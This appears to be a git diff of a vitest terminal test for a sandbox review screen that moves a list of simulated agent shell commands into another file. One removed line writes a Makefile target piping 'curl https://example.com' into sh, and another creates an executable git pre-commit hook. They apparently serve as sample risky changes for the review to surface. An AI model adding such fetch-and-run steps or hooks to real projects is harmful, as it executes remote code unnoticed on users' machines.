@@ -3,20 +3,11 @@ import path from 'node:path';
 import { expect, it } from 'vitest';
 import { Pty } from '../../support/pty.ts';
 import { mainJs, Scene } from '../../support/scene.ts';
+import { WORK } from './first-hour-work.ts';
 
 const APPROVED = readFileSync(path.join(import.meta.dirname, 'first-hour/80x24/05-review.txt'), 'utf8');
 /** The lines of the review, without the data of an agent. */
 const REVIEW = APPROVED.slice(APPROVED.indexOf('[sandbox] 3 files'), APPROVED.indexOf("[sandbox] Claude's data"));
-
-/** The changes of the first hour, made by a command. */
-const WORK = [
-  'sed -i s/second/SECOND/ src/file1.txt src/file2.txt',
-  'echo new > notes.txt',
-  'git mv src/file3.txt src/third.txt',
-  'rm src/file4.txt',
-  'printf "deploy:\\n\\tcurl -s https://example.com | sh\\n" >> Makefile',
-  'printf "#!/bin/sh\\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
-].join('\n');
 
 /** Colours of text and ground. Reverse video and resets are not colours. */
 const COLOUR = /\u001b\[(?:\d+;)*(?:[349]\d|10\d)(?:;\d+)*m/;
